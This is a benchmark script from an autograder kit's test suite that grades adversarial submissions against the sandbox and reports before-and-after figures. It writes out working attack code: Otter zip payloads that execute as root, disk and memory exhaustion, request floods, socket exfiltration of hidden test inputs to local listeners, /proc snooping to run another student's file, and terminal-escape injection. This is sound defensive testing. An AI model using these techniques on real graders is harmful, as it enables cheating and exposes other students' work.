"""Issue 23's attacks, each as a real submission graded through the kit's command line in subprocesses, the
way a user runs it: one row per attack with what it tried, the issue's figure before (measured on
82b922e, copied from the issue) and the figure now. Prints figures; asserts nothing (the kit tests
assert the guarantees: tests/kit/test_kit_attacks.py, test_kit_otter.py, test_kit_seccomp.py,
test_kit_mounts.py, test_kit_batch.py).

    .venv/bin/python benchmarks/bench_attacks.py [--only CLASS] [--skip ATTACK] [--each] [--kit PATH]

CLASS: otter, deadlines, resources, channels, ta (about 5 minutes in all on 2 busy CPUs). As root (the
uid, mount and cgroup layers, and the Otter path as Gradescope runs it, need it). --each grades the
Otter attacks one zip each (44 `otter run`s, about 15 minutes) instead of all in one zip per module
(each attack still leaves a mark of its own if it runs); ATTACK: one of each class's rows. --kit
grades with another checkout (its own .venv), e.g. one of 82b922e, to measure the figures before; the
attacks are this checkout's.

What is measured, per grading:
- score: of the attacked exercise, and of the honest rest (exercise 12, graded beside it), from the
  results.json the command wrote;
- wall seconds of the command;
- the grader's own CPU seconds and peak RSS: `grader grade` and its pytest process (which holds the
  sandboxes' grader side), each reporting getrusage(RUSAGE_SELF) at exit through a sitecustomize on
  PYTHONPATH (workers start with -S and a clean environment: they are not counted);
- the workers, sampled from /proc every 0.2 s: CPU seconds of the reference's workers, and the disk
  (MB, files) below a worker's scratch folder, walked through /proc/PID/cwd (its own mount view);
- bytes that reached the benchmark's listeners: UDP and TCP on 127.0.0.1, a pathname Unix socket in a
  world-writable folder, an abstract Unix socket.
"""

from __future__ import annotations

import argparse
import csv
import json
import os
import re
import select
import socket
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
import unicodedata
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

HERE = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(HERE))

from tests.kit.otter_attacks import (  # noqa: E402
    common_attacks,
    launcher_module,
    marks_left,
    module_attacks,
    notebook,
    payload,
    write_folder,
    write_zip,
)
from tests.kit.otter_comparison import gradescope_layout  # noqa: E402
from tests.kit.test_kit_attacks import COMMANDS, DEADLINES, HOOK_OFF  # noqa: E402
from tests.kit.test_kit_batch import ESCAPES, OWN_METADATA  # noqa: E402
from tests.kit.test_kit_mounts import THIEF  # noqa: E402
from tests.kit.test_kit_seccomp import MEMFD, SYSV_SHM  # noqa: E402

CLASSES = {
    "otter": ("otter",),
    "deadlines": ("flood", "cpu", "callbacks", "big_answers", "reference_left", "function_arg"),
    "resources": ("disk", "neighbour", "memory"),
    "channels": ("sockets", "proc_thief"),
    "ta": ("escapes", "own_metadata"),
}
MB = 1 << 20

# -- the figures before (82b922e) --------------------------------------------------------------

BEFORE = {
    "otter-log": "stub 100/100 (dill.load ran it as root)",
    "package-otter": "stub 100/100 (the kernel imported it)",
    "otter-other": "Otter read and imported every submitted file",
    "launcher": "stub 100/100 (ipykernel_launcher ran as root)",
    "notebook": "graded instead of the module: reference 0",
    "flood": "216 s wall, 110 s grader CPU, honest rest 0",
    "cpu": "6 s of CPU (bound 3 s) accepted",
    "callbacks": "grader RSS 2,171 MB",
    "big-answers": "192 s grader CPU for 28 checks",
    "reference-left": "44 s of reference CPU beyond the bound",
    "function-arg": "the reference ran lab functions off the call graph",
    "disk": "1.5 GB in scratch (3,076 MB used)",
    "files": "100,000 files in scratch",
    "neighbour": "reference neighbour 0, status completed",
    "memfd": "memfd + shm: 3,838 MB",
    "shm": "memfd + shm: 3,838 MB",
    "sockets": "53,796 bytes of hidden inputs out (pathname Unix, UDP)",
    "sockets-tcp": "TCP connects below Landlock ABI 4",
    "proc-thief": "stub 100 (ran another student's file)",
    "escapes": "raw escapes on grade's stdout",
    "own-metadata": "row named as another student",
}

# -- what runs the kit ----------------------------------------------------------------------------------

RUSAGE_HOOK = """\
import atexit, json, os, resource, sys

def _optlab_bench_report(path=os.environ.get("OPTLAB_BENCH_RUSAGE")):
    if not path:
        return
    usage = resource.getrusage(resource.RUSAGE_SELF)
    line = {"pid": os.getpid(), "argv": sys.argv[:2], "cpu": usage.ru_utime + usage.ru_stime,
            "rss_mb": usage.ru_maxrss / 1024}
    try:
        with open(path, "a") as handle:
            handle.write(json.dumps(line) + "\\n")
    except OSError:
        pass

atexit.register(_optlab_bench_report)
"""


@dataclass
class Measured:
    """One command's figures."""

    code: int
    out: str
    err: str
    wall: float
    grader_cpu: float = 0.0
    grader_rss_mb: float = 0.0
    reports: int = 0  # grader processes that reported (one killed reports nothing)
    reference_cpu: list[float] = field(default_factory=list)  # each reference worker's CPU seconds
    disk_mb: float = 0.0  # the most found below one worker's scratch folder
    disk_files: int = 0


class Kit:
    """The checkout that grades (its own interpreter), and the measuring around each command."""

    def __init__(self, root: Path, scratch: Path):
        self.root = root
        venv = root / ".venv" / "bin" / "python"
        self.python = str(venv) if venv.exists() else sys.executable
        self.scratch = scratch
        self.hook = scratch / "hook"
        self.hook.mkdir()
        (self.hook / "sitecustomize.py").write_text(RUSAGE_HOOK)
        asked = "from grader.sandbox.isolation import SWITCHABLE; print(*SWITCHABLE)"
        known = subprocess.run(
            [self.python, "-c", asked], cwd=root, capture_output=True, text=True, check=False
        )
        self.switchable = set(known.stdout.split())

    def layers_off(self, names: str) -> dict[str, str]:
        """The environment that switches the audit hook and the layers `names` off, those this kit has
        (an older one may not know a layer: it has none of it)."""
        wanted = ["audit_hook", *filter(None, names.split(","))]
        return {"OPTLAB_LAYERS_OFF": ",".join(n for n in wanted if n in self.switchable)}

    def run(self, args: list[str], env: dict[str, str] | None = None, disk: bool = False,
            timeout: float = 900, cwd: Path | None = None, otter: bool = False,
            script: bool = False) -> Measured:  # fmt: skip
        rusage = Path(tempfile.mktemp(prefix="rusage-", dir=self.scratch))
        paths = [str(self.hook), *([str(self.root)] if otter else [])]
        environment = dict(os.environ, **(env or {}))
        environment["PYTHONPATH"] = os.pathsep.join(paths)
        environment["OPTLAB_BENCH_RUSAGE"] = str(rusage)
        if script:
            command = [self.python, *args]
        elif otter:
            command = [self.python, "-m", *args]
        else:
            command = [self.python, "-m", "grader", "--root", str(self.root), *args]
        with WorkerWatch(disk) as watch:
            started = time.perf_counter()
            try:
                run = subprocess.run(command, cwd=cwd or self.root, env=environment, capture_output=True,
                                     timeout=timeout)  # fmt: skip
                code, out, err = run.returncode, run.stdout, run.stderr
            except subprocess.TimeoutExpired as expired:
                code, out, err = -9, expired.stdout or b"", expired.stderr or b""
            wall = time.perf_counter() - started
        measured = Measured(code, out.decode("utf-8", "replace"), err.decode("utf-8", "replace"), wall)
        lines = [json.loads(line) for line in rusage.read_text().splitlines()] if rusage.exists() else []
        measured.grader_cpu = sum(line["cpu"] for line in lines)
        measured.grader_rss_mb = max((line["rss_mb"] for line in lines), default=0.0)
        measured.reports = len(lines)
        measured.reference_cpu = watch.reference_cpu()
        measured.disk_mb, measured.disk_files = watch.disk_mb, watch.disk_files
        return measured


CLOCK = os.sysconf("SC_CLK_TCK")


class WorkerWatch:
    """Samples the kit's workers in /proc (a worker's command line carries its config: its scratch
    folder, and for the reference's worker the descriptors it answers on)."""

    def __init__(self, disk: bool):
        self.disk = disk
        self.cpu: dict[int, float] = {}
        self.reference: set[int] = set()
        self.disk_mb, self.disk_files = 0.0, 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._watch, daemon=True)
        self._walked = 0.0

    def __enter__(self) -> WorkerWatch:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join()

    def reference_cpu(self) -> list[float]:
        return sorted((self.cpu[pid] for pid in self.reference), reverse=True)

    def _watch(self) -> None:
        while not self._stop.wait(0.05 if self.disk else 0.2):
            for entry in os.scandir("/proc"):
                if entry.name.isdigit():
                    self._sample(int(entry.name))

    def _sample(self, pid: int) -> None:
        try:
            cmdline = Path(f"/proc/{pid}/cmdline").read_bytes()
            if b'"scratch"' not in cmdline:
                return
            stat = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
            self.cpu[pid] = (int(stat[11]) + int(stat[12])) / CLOCK
        except (OSError, ValueError, IndexError):
            return
        if b"answer_fds" in cmdline:
            self.reference.add(pid)
        elif self.disk:
            size, files = self._disk(Path(f"/proc/{pid}/cwd"))
            self.disk_mb, self.disk_files = max(self.disk_mb, size / MB), max(self.disk_files, files)

    def _disk(self, scratch: Path) -> tuple[int, int]:
        """What a worker holds below its scratch folder: its file system's use where that is a small
        one of its own (the mount layer's tmpfs), else a walk (at most every 0.5 s)."""
        try:
            fs = os.statvfs(scratch)
        except OSError:
            return 0, 0
        if fs.f_blocks * fs.f_frsize <= 1 << 30:
            return (fs.f_blocks - fs.f_bfree) * fs.f_frsize, fs.f_files - fs.f_ffree
        if time.monotonic() - self._walked < 0.5:
            return 0, 0
        self._walked = time.monotonic()
        return walk(scratch)


def walk(top: Path) -> tuple[int, int]:
    """Bytes allocated and entries below `top` (folders entered from their parent: any depth)."""
    size = files = 0
    stack = [str(top)]
    while stack:
        try:
            entries = list(os.scandir(stack.pop()))
        except OSError:
            continue
        for entry in entries:
            files += 1
            try:
                if entry.is_dir(follow_symlinks=False):
                    stack.append(entry.path)
                else:
                    size += entry.stat(follow_symlinks=False).st_blocks * 512
            except OSError:
                pass
    return size, files


# -- reading results -------------------------------------------------------------------------------------


def exercise_scores(document: dict) -> dict[int, tuple[float, float]]:
    """(score, max) per exercise, from the entries' names ("12 group advantages: visible checks")."""
    scores: dict[int, tuple[float, float]] = {}
    for test in document.get("tests", []):
        number = re.match(r"(\d+) ", test.get("name", ""))
        if number:
            got, most = scores.get(int(number[1]), (0.0, 0.0))
            scores[int(number[1])] = (got + test.get("score", 0.0), most + test.get("max_score", 0.0))
    return scores


def shown(document: dict) -> str:
    return document.get("output", "") + "\n".join(t.get("output", "") for t in document.get("tests", []))


def points(document: dict | None, exercise: int) -> str:
    if document is None:
        return "no results.json"
    got, most = exercise_scores(document).get(exercise, (0.0, 0.0))
    return f"{got:g}/{most:g}"


def read_results(path: Path) -> dict | None:
    try:
        return json.loads(path.read_text())
    except (OSError, ValueError):
        return None


def attack_result(document: dict | None) -> str:
    """What the attack said of itself (ATTACK<<...>> in a check's message), else the grader's words."""
    if document is None:
        return "no results.json"
    text = shown(document)
    found = re.search(r"ATTACK<<(.*?)>>", text)
    if found:
        return found[1]
    for pattern in (
        r"[^\n]*quota of its scratch folder[^\n]*",
        r"[^\n]*killed: it used its[^\n]*",
        r"[^\n]*(did not return|timed out|CPU time)[^\n]*",
    ):
        said = re.search(pattern, text)
        if said:
            return said[0].strip()[:110]
    return ""


# -- the rows ---------------------------------------------------------------------------------------------


@dataclass
class Row:
    klass: str
    attack: str
    before: str
    after: str


ROWS: list[Row] = []
MEASURED = "after:  "  # "here:   " when another checkout grades


def row(klass: str, attack: str, key: str, after: str) -> None:
    ROWS.append(Row(klass, attack, BEFORE[key], after))
    print(f"[{klass}] {attack}\n    before: {BEFORE[key]}\n    {MEASURED}{after}", flush=True)


def cost(m: Measured) -> str:
    return (
        f"{m.wall:.1f} s wall, grader CPU {m.grader_cpu:.1f} s, RSS {m.grader_rss_mb:.0f} MB"
        f"{'' if m.reports >= 2 else f' ({m.reports} of 2 grader processes reported)'}"
    )


FILLING = """

def softmax(xs):
    written, made = 0, 0
    try:
        LOOP
        said = "none"
    except OSError as error:
        said = str(error)[:60]
    raise RuntimeError(f"ATTACK<<wrote {written} MB and {made} files: {said}>>")
"""
FILL_LOOP = ("for index in range(1536 // 8):\n"
             "            with open(f'fill-{index}', 'wb') as handle:\n"
             "                handle.write(b'x' * (8 << 20))\n"
             "            written += 8")  # fmt: skip

GROWING = """

def softmax(xs):
    import os
    try:
BODY
    except OSError as error:
        raise RuntimeError(f"ATTACK<<refused: {error}>>")
"""

REFERENCE_NAME = "solutions/optimization_toolkit.py"
STUB_NAME = "student/optimization_toolkit.py"


class Bench:
    def __init__(self, kit: Kit, here: Path, scratch: Path, each: bool):
        self.kit, self.here, self.scratch, self.each = kit, here, scratch, each
        self.reference = (here / REFERENCE_NAME).read_text()
        self.stub = (here / STUB_NAME).read_text()
        self.count = 0
        self.baselines: dict[tuple[int, ...], str] = {}

    def folder(self, name: str) -> Path:
        self.count += 1
        path = self.scratch / f"{self.count:02d}-{name}"
        path.mkdir()
        os.chmod(path, 0o755)
        return path

    def grade(self, name: str, source: str, exercises: list[int], env: dict | None = None,
              disk: bool = False, timeout: float = 900) -> tuple[dict | None, Measured]:  # fmt: skip
        folder = self.folder(name)
        module = folder / "optimization_toolkit.py"
        module.write_text(source)
        out = folder / "results.json"
        args = ["grade", str(module), "-o", str(out), *[f"--exercise={n}" for n in exercises]]
        measured = self.kit.run(args, env=env, disk=disk, timeout=timeout)
        return read_results(out), measured

    def honest(self, exercises: list[int]) -> str:
        """The reference graded the same way: what the attack's figures compare with."""
        key = tuple(exercises)
        if key not in self.baselines:
            _, m = self.grade("reference", self.reference, exercises)
            self.baselines[key] = (
                f"the reference graded so: {m.wall:.1f} s wall, grader CPU {m.grader_cpu:.1f} s"
            )
        return self.baselines[key]

    def attacker(self, tail: str) -> str:
        """The reference, the audit hook switched off, the command channel, the attack's definitions."""
        return self.reference + HOOK_OFF + COMMANDS + DEADLINES + textwrap.dedent(tail)

    # -- 1. the Otter path ------------------------------------------------------------------------------

    def otter(self) -> None:
        dist = self.folder("dist")
        packaged = self.kit.run(["package", "-o", str(dist)])
        autograder = dist / "autograder.zip"
        if not autograder.exists():
            print("grader package failed:", packaged.err[-500:])
            return
        lab = {"stub": self.stub, "reference": self.reference}
        here = "__import__('os').path.dirname(__file__)"
        ran: dict[str, dict[str, str]] = {}
        for which in ("stub", "reference"):
            marks = self.scratch / f"marks-{which}"
            files = common_attacks(marks) | module_attacks(marks)
            files["pytest/__init__.py"] = payload(marks, "package-pytest", here).encode()
            groups = {name: {name: data} for name, data in files.items()} if self.each else {"all": files}
            for group, attacks in groups.items():
                zipped = write_zip(self.folder(f"otter-{which}") / "submission.zip",
                                   attacks | {"optimization_toolkit.py": lab[which].encode()})  # fmt: skip
                page, m = self.otter_run(autograder, zipped)
                score = "no results.json" if page is None else f"{page['score']:g}"
                what = group if self.each else f"all {len(files)} files below at once"
                row("otter", f"otter run: the {which} beside {what}", "otter-other",
                    f"score {score} (expected {lab_score(which)}), files that ran: "
                    f"{marks_left(marks) or 'none'}; {m.wall:.1f} s")  # fmt: skip
            for name in files:
                mark = mark_of(name)
                outcome = "no code" if mark is None else "RAN" if mark in marks_left(marks) else "did not run"
                ran.setdefault(name, {})[which] = outcome
        for name, by_lab in sorted(ran.items()):
            key = (
                "otter-log"
                if name == ".OTTER_LOG"
                else "package-otter"
                if name == "otter/__init__.py"
                else "otter-other"
            )
            row(
                "otter",
                f"  submitted {name}",
                key,
                f"stub: {by_lab['stub']}, reference: {by_lab['reference']}",
            )

        marks = self.scratch / "marks-launcher"
        launcher = {"ipykernel_launcher.py": launcher_module(self.stub, marks).encode()}
        zipped = write_zip(self.folder("otter-launcher") / "submission.zip", common_attacks(marks) | launcher)
        page, m = self.otter_run(autograder, zipped)
        score = "no results.json" if page is None else f"{page['score']:g}"
        row(
            "otter",
            "otter run: the stub named ipykernel_launcher.py (what Jupyter runs to start Otter's kernel)",
            "launcher",
            f"score {score} (expected 0), files that ran: {marks_left(marks) or 'none'}; {m.wall:.1f} s",
        )

        marks = self.scratch / "marks-notebook"
        files = {"optimization_toolkit.py": self.reference.encode(),
                 "extra.ipynb": notebook(payload(marks, "notebook")).encode()}  # fmt: skip
        page, m = self.otter_run(
            autograder, write_zip(self.folder("otter-notebook") / "submission.zip", files)
        )
        refused = " (Otter refuses: more than one .ipynb)" if "More than one .ipynb" in m.err else ""
        score = "no results.json" if page is None else f"{page['score']:g}"
        row(
            "otter",
            "otter run: the reference beside a notebook",
            "notebook",
            f"score {score}{refused}, files that ran: {marks_left(marks) or 'none'}",
        )
        page, m = self.gradescope(autograder, write_folder(self.folder("gradescope-submission"), files))
        score = "no results.json" if page is None else f"{page['score']:g}"
        row(
            "otter",
            "Gradescope's layout (run_otter.py as root): the reference beside a notebook",
            "notebook",
            f"score {score} (expected 100), files that ran: {marks_left(marks) or 'none'}; {m.wall:.1f} s",
        )

    def otter_run(self, autograder: Path, submission: Path) -> tuple[dict | None, Measured]:
        out = submission.parent / "otter"
        out.mkdir()
        m = self.kit.run(["otter", "run", "-a", str(autograder), "-o", str(out), str(submission)],
                         cwd=out, otter=True)  # fmt: skip
        return read_results(out / "results.json"), m

    def gradescope(self, autograder: Path, submission: Path) -> tuple[dict | None, Measured]:
        """As tests/kit/otter_comparison.gradescope_page: the zip unpacked into ROOT/source, the
        submission in ROOT/submission, run_otter.py run as Gradescope's run_autograder runs it."""
        root = self.folder("gradescope")
        run_otter = gradescope_layout(autograder, submission, root)
        m = self.kit.run([str(run_otter)], cwd=root, script=True)
        return read_results(root / "results" / "results.json"), m

    # -- 2. deadlines and the grader's own work ---------------------------------------------------------

    def flood(self) -> None:
        flooding = "\n\ndef softmax(xs):\n    return _ATTACKS['flood']('0,')\n"
        doc, m = self.grade("flood", self.attacker(flooding), [8, 12])
        row(
            "deadlines",
            "softmax queues 1,000 requests and never reads the answers",
            "flood",
            f"{cost(m)}; softmax {points(doc, 8)}, honest rest (ex 12) {points(doc, 12)} "
            f"({self.honest([8, 12])})",
        )

    def cpu(self) -> None:
        # the honest answer queued behind the requests, then 6 s of CPU: accepted, it would score
        burning = """

        def softmax(xs):
            m = max(xs)
            es = [math.exp(x - m) for x in xs]
            honest = [e / sum(es) for e in es]
            link = _grader_link()
            stream = b'{"op":"reference","function":"x"}\\n' * 1000
            stream += (json.dumps({"op": "return", "value": honest, "mutated": {}}) + "\\n").encode()
            while stream:
                stream = stream[_os.write(link._writer.fileno(), stream):]
            until = _time.process_time() + 6.0
            while _time.process_time() < until:
                pass
            answers = 0
            while answers < 1000:
                answers += _os.read(link._read_fd, 1 << 16).count(b"\\n")
            _time.sleep(60)
        """
        doc, m = self.grade("cpu", "import json\n" + self.attacker(burning), [8, 12])
        row(
            "deadlines",
            "each softmax call burns 6 s CPU (bound 3 s) behind queued requests, its honest answer queued",
            "cpu",
            f"softmax {points(doc, 8)} (accepted would score), honest rest "
            f"{points(doc, 12)}; {attack_result(doc)}; {cost(m)}",
        )

    def callbacks(self) -> None:
        callbacks = """

        def autoresearch(iters, rng, proposer=None, guard=True):
            files = {"train.py": "x" * 100_000}
            for _ in range(3000):
                proposer(files, rng)
            return files, []
        """
        doc, m = self.grade("callbacks", self.attacker(callbacks), [19, 12])
        row(
            "deadlines",
            "autoresearch calls the test's proposer 3,000 times with 100 KB each",
            "callbacks",
            f"grader RSS {m.grader_rss_mb:.0f} MB; autoresearch {points(doc, 19)}, honest rest "
            f"{points(doc, 12)}; {cost(m)}",
        )

    def big_answers(self) -> None:
        nested = "\n\ndef softmax(xs):\n    return _ATTACKS['nested']('40,300000')\n"
        doc, m = self.grade("big-answers", self.attacker(nested), [8])
        row(
            "deadlines",
            "every softmax answer about 2 MB, nested 40 deep",
            "big-answers",
            f"grader CPU {m.grader_cpu:.1f} s; softmax {points(doc, 8)}; {m.wall:.1f} s wall "
            f"({self.honest([8])})",
        )

    def reference_left(self) -> None:
        leaving = """

        import select as _select

        _LEFT = {"left": 0, "in full": 0, "stopped": 0, "refused": 0}
        _WAITING = bytearray()


        def _pipes():
            return next(o for o in _gc.get_objects() if type(o).__name__ == "_ReferencePipes")


        def _answers_waiting():
            # what the reference's worker answered since the last call, to requests whose call had ended
            fd = _pipes()._read_fd
            while _select.select([fd], [], [], 0.2)[0]:
                chunk = _os.read(fd, 1 << 20)
                if not chunk:
                    break
                _WAITING.extend(chunk)
            while b"\\n" in _WAITING:
                line, _, rest = bytes(_WAITING).partition(b"\\n")
                _WAITING[:] = rest
                kind = "stopped" if b"CallEnded" in line else "in full" if b'"return"' in line else "refused"
                _LEFT[kind] += 1


        def _leave(function, args):
            _answers_waiting()
            _pipes().post({"op": "reference", "function": function, "args": args, "kwargs": {}})
            _LEFT["left"] += 1
            _time.sleep(0.3)  # the reference's worker reads it while the call is open, and starts
            said = ", ".join(f"{k} {v}" for k, v in _LEFT.items())
            raise RuntimeError(f"ATTACK<<{said}>>")


        def sft_grad(policy, data):
            # add_score (on sft_grad's graph) for a policy of 250,000 tokens, the answer left unread
            state = {"$dict": [["S", 1], ["T", 1], ["V", 250_000], ["theta", [[[0.0] * 250_000]]]]}
            big = {"$object": "TabPolicy", "state": state}
            _leave("add_score", [[[[0.0] * 250_000]], big, 0, 0, 0, 1.0])


        def autoresearch(iters, rng, proposer=None, guard=True):
            state = _random.Random(0).getstate()
            seeded = {"$random": [state[0], list(state[1]), state[2]]}
            _leave("autoresearch", [10**6, seeded])  # the issue's request: off every call's graph
        """
        doc, m = self.grade("reference-left", self.attacker(leaving), [14, 19])
        _, honest = self.grade("reference-honest", self.reference, [14, 19])
        spent, usual = m.reference_cpu, honest.reference_cpu
        counts = re.findall(
            r"ATTACK<<left (\d+), in full (\d+), stopped (\d+), refused (\d+)>>", shown(doc or {})
        )
        left = max(counts, key=lambda c: int(c[0]), default=("?", "?", "?", "?"))
        row(
            "deadlines",
            "sft_grad posts add_score on 250,000 tokens (2.5 MB: a message may hold 4), autoresearch posts "
            "autoresearch(10**6), each to the reference's worker, and returns without reading; the next call "
            "reads what came",
            "reference-left",
            f"left {left[0]} requests: answered in full after their call {left[1]}, stopped at its end "
            f"{left[2]}, refused {left[3]} (the last one unseen); reference workers: {len(spent)}, "
            f"the busiest {max(spent, default=0):.2f} s CPU, all {sum(spent):.2f} s (the reference graded: "
            f"{len(usual)} workers, {sum(usual):.2f} s); {cost(m)}",
        )

    def function_arg(self) -> None:
        shadowing = """

        _lab_sft_grad = sft_grad


        def sft_grad(policy, data):
            pipes = next(o for o in _gc.get_objects() if type(o).__name__ == "_ReferencePipes")
            shadowed = {"S": 1, "T": 1, "V": 1, "theta": [[[0.0]]], "probs": {"$function": "exact_kl"}}
            policy = {"$object": "TabPolicy", "state": {"$dict": [[k, v] for k, v in shadowed.items()]}}
            args = [[[[0.0]]], policy, [1.0], [1.0], 0, 1.0]
            answer = pipes.send({"op": "reference", "function": "add_score", "args": args, "kwargs": {}})
            raise RuntimeError(f"ATTACK<<{answer.get('type')}: {answer.get('message')}>>")
        """
        doc, m = self.grade("function-arg", self.attacker(shadowing), [14])
        said = attack_result(doc).replace("\n", " ")
        ran = "TypeError" in said
        row(
            "deadlines",
            "sft_grad asks add_score with a policy whose probs names exact_kl",
            "function-arg",
            f"the reference {'RAN exact_kl' if ran else 'ran nothing'}: {said[:120]!r}",
        )

    # -- 3. resources -----------------------------------------------------------------------------------

    def disk(self) -> None:
        for key, what, loop in (
            (
                "disk",
                "1.5 GB in files of 8 MB",
                "for index in range(1536 // 8):\n"
                "            with open(f'fill-{index}', 'wb') as handle:\n"
                "                handle.write(b'x' * (8 << 20))\n"
                "            written += 8",
            ),
            (
                "files",
                "100,000 empty files",
                "for index in range(100_000):\n"
                "            open(f'f{index}', 'w').close()\n"
                "            made += 1",
            ),
        ):
            for label, off in (("", ""), (", mount layer off (Docker's default)", "mounts")):
                env = self.kit.layers_off(off)
                attack = self.attacker(FILLING.replace("LOOP", loop))
                doc, m = self.grade(key, attack, [8, 12], env=env, disk=True)
                row(
                    "resources",
                    f"softmax writes {what} in its scratch folder{label}",
                    key,
                    f"at most {m.disk_mb:.0f} MB and {m.disk_files} files seen there; said: "
                    f"{attack_result(doc)!r}; honest rest {points(doc, 12)}; {m.wall:.1f} s",
                )

    def neighbour(self) -> None:
        source = self.folder("neighbour-batch")
        (source / "ada.py").write_text(self.reference)
        (source / "filler.py").write_text(self.attacker(FILLING.replace("LOOP", FILL_LOOP)))
        grades = self.folder("neighbour-out") / "grades.csv"
        m = self.kit.run(["batch", str(source), "-j", "2", "-o", str(grades), "--exercise", "8",
                          "--exercise", "12"], disk=True)  # fmt: skip
        rows = read_grades(grades)
        ada, filler = rows.get("ada.py", {}), rows.get("filler.py", {})
        row(
            "resources",
            "grader batch -j 2: the disk filler beside the reference",
            "neighbour",
            f"reference {ada.get('percent_correct', '?')} ({ada.get('grading_status', '?')}), filler "
            f"{filler.get('percent_correct', '?')} ({filler.get('grading_status', '?')[:60]}); "
            f"{m.wall:.1f} s",
        )

    def memory(self) -> None:
        for name, body in (("memfd", MEMFD), ("shm", SYSV_SHM)):
            held = body.replace(
                "return [float(held >> 20)]", "raise RuntimeError(f'ATTACK<<held {held >> 20} MB>>')"
            )
            grow = GROWING.replace("BODY", textwrap.indent(held, "        "))
            what = "memfds grown to the file-size limit" if name == "memfd" else "SysV segments filled"
            for label, off in (("", ""), (", seccomp off (the cgroup alone)", "seccomp")):
                env = self.kit.layers_off(off)
                doc, m = self.grade(name, self.attacker(grow), [8], env=env)
                row(
                    "resources",
                    f"softmax holds memory in {what}, towards 2 GB (limit 1 GB){label}",
                    name,
                    f"{attack_result(doc)!r}; {m.wall:.1f} s",
                )

    # -- 4. channels ------------------------------------------------------------------------------------

    def sockets(self) -> None:
        with listeners(self.scratch) as ears:
            targets = {name: ear.address for name, ear in ears.items()}
            sending = f"""

            _TARGETS = {targets!r}
            _KINDS = {{"udp": ("AF_INET", "SOCK_DGRAM"), "tcp": ("AF_INET", "SOCK_STREAM"),
                       "pathname unix": ("AF_UNIX", "SOCK_STREAM"),
                       "abstract unix": ("AF_UNIX", "SOCK_STREAM")}}


            def softmax(xs):
                import socket
                said = []
                for name, address in _TARGETS.items():
                    family, kind = (getattr(socket, n) for n in _KINDS[name])
                    try:
                        s = socket.socket(family, kind)
                        s.connect(tuple(address) if isinstance(address, list) else address)
                        s.send(repr(xs).encode() * 8)
                        s.close()
                        said.append(name + " sent")
                    except OSError as error:
                        said.append(f"{{name}}: {{error.strerror}}")
                raise RuntimeError("ATTACK<<" + "; ".join(said) + ">>")
            """
            for label, off in (("every layer", ""), ("namespaces and Landlock off", "namespaces,landlock")):
                for ear in ears.values():
                    ear.received = 0
                env = self.kit.layers_off(off)
                doc, m = self.grade("sockets", self.attacker(sending), [8], env=env)
                time.sleep(0.5)
                got = ", ".join(f"{name} {ear.received}" for name, ear in ears.items())
                row(
                    "channels",
                    f"softmax sends its inputs to 4 listeners ({label})",
                    "sockets",
                    f"bytes received: {got}; said: {attack_result(doc)[:150]!r}",
                )

    def proc_thief(self) -> None:
        source = Path(tempfile.mkdtemp(prefix="optlab-bench-ta-"))  # a TA's folder others may read
        try:
            os.chmod(source, 0o755)
            (source / "ada.py").write_text(self.reference)
            (source / "thief.py").write_text(self.stub + HOOK_OFF + THIEF)
            for path in source.iterdir():
                os.chmod(path, 0o644)
            grades = self.folder("thief-out") / "grades.csv"
            env = self.kit.layers_off("landlock,mounts,namespaces,seccomp,cgroup")
            m = self.kit.run(["batch", str(source), "-j", "2", "-o", str(grades), "--exercise", "8",
                              "--exercise", "12"], env=env)  # fmt: skip
            rows = read_grades(grades)
        finally:
            subprocess.run(["rm", "-rf", str(source)], check=False)
        row(
            "channels",
            "uid layer alone: batch stub reads /proc cmdlines, runs another student's file",
            "proc-thief",
            f"thief {rows.get('thief.py', {}).get('percent_correct', '?')}, reference "
            f"{rows.get('ada.py', {}).get('percent_correct', '?')} (percent_correct); {m.wall:.1f} s",
        )

    # -- 5. what a TA reads -----------------------------------------------------------------------------

    def escapes(self) -> None:
        printing = f"print({ESCAPES!r})\n" + self.reference
        doc, m = self.grade("escapes", printing, [8])
        seen = controls(m.out + m.err)
        escaped = "yes" if "\\x1b[2J" in m.out + m.err else "no"
        row(
            "ta",
            "the module prints clear-screen, title, clipboard, CR + fake score at import",
            "escapes",
            f"{len(seen)} control characters on grade's stdout+stderr "
            f"({sum(c == chr(27) for c in seen)} ESC); shown escaped: {escaped}; "
            f"score {doc and doc.get('score')}",
        )

    def own_metadata(self) -> None:
        plain = self.folder("own-metadata")
        for student in ("mallory", "zoe"):
            (plain / student).mkdir()
            (plain / student / "optimization_toolkit.py").write_text(self.stub)
        (plain / "mallory" / "submission_metadata.yml").write_text(OWN_METADATA)  # claims to be Ada
        grades = self.folder("own-metadata-out") / "grades.csv"
        self.kit.run(["batch", str(plain), "-j", "2", "-o", str(grades), "--exercise", "8"])
        mallory = read_grades(grades).get("mallory", {})
        row(
            "ta",
            "a submission_metadata.yml in mallory's folder of a plain-folder batch names Ada",
            "own-metadata",
            f"mallory's row: name {mallory.get('name', '?')!r}, sid {mallory.get('sid', '?')!r}",
        )


def lab_score(which: str) -> str:
    return "0" if which == "stub" else "100"


def mark_of(name: str) -> str | None:
    """The mark an attack file of tests/kit/otter_attacks.py leaves if it runs (None: it holds no code)."""
    top, _, rest = name.partition("/")
    if name == ".OTTER_LOG":
        return "otter-log"
    if name == "tests/q1.py":
        return "tests-q1"
    if rest == "__init__.py":
        return "tests-package" if top == "tests" else f"package-{top}"
    if name.endswith(".pth"):
        return "pth"
    if name in ("sitecustomize.py", "usercustomize.py"):
        return name[:-3]
    if name == "results.pkl":
        return "results-pkl"
    if name.endswith(".py"):
        return f"module-{name[:-3]}"
    return None


def read_grades(path: Path) -> dict[str, dict[str, str]]:
    try:
        with open(path, newline="", encoding="utf-8") as handle:
            return {r["file"]: r for r in csv.DictReader(handle)}
    except OSError:
        return {}


def controls(text: str) -> list[str]:
    """The control, format and separator characters of `text`, newlines and tabs aside."""
    return [c for c in text if unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp") and c not in "\n\t"]


# -- listeners ---------------------------------------------------------------------------------------------


class Ear:
    """A listener counting the bytes that reach it."""

    def __init__(self, family: int, kind: int, address: str | tuple[str, int]):
        self.sock = socket.socket(family, kind)
        self.sock.bind(address)
        if kind == socket.SOCK_STREAM:
            self.sock.listen(8)
